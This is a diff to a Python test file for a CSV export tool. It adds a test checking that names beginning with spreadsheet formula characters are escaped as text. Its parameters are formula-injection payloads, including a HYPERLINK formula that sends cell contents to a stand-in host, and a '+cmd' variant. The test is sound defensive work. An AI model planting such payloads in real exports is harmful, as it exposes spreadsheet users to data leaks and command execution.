@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import argparse
 import csv
+import io
 import json
 from pathlib import Path
 
@@ -11,12 +12,13 @@ import pytest
 
 from device.errors import DoorwardError, NotFoundError, UsageError
 from export_tools.commands import evaluate
+from export_tools.evaluate.pad import summarise
 from export_tools.evaluate.results.latency import LatencyResult
 from export_tools.evaluate.results.pad import PadResult
 from export_tools.evaluate.results.recognition import VerificationResult
 from export_tools.evaluate.tables import tables_of, write_whole
 from tests.export_tools.lfw_like import write_pairs, write_set
-from tests.export_tools.test_evaluate_pad import by_hand
+from tests.export_tools.test_evaluate_pad import by_hand, clip
 
 
 def run(*arguments: str) -> None:
@@ -135,6 +137,15 @@ def test_every_list_of_a_result_is_a_table_and_every_value_a_row() -> None:
     assert tables["species"].count("\n") == 1 + len(result.species)
     assert "bpcer.count,1\n" in tables["figures"]
     assert PadResult.model_validate_json(result.model_dump_json()) == result
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+1+cmd", "-2+3", "\t=1", " =1", "\uff1d1"])
+def test_a_name_that_a_spreadsheet_would_compute_stays_text(name: str) -> None:
+    """Subjects and clips are called as their folders are."""
+    clips = [clip(name, name, species, [0.9] * 5) for species in (None, "print")]
+    tables = tables_of(summarise(clips, name="networks", threshold=0.5, rule="median", elapsed_s=1.0))
+    rows = list(csv.DictReader(io.StringIO(tables["clips"])))
+    assert {row["subject"] for row in rows} == {row["clip"] for row in rows} == {f"'{name}"}
 
 
 def test_a_file_is_written_whole_or_not_at_all(tmp_path: Path) -> None:
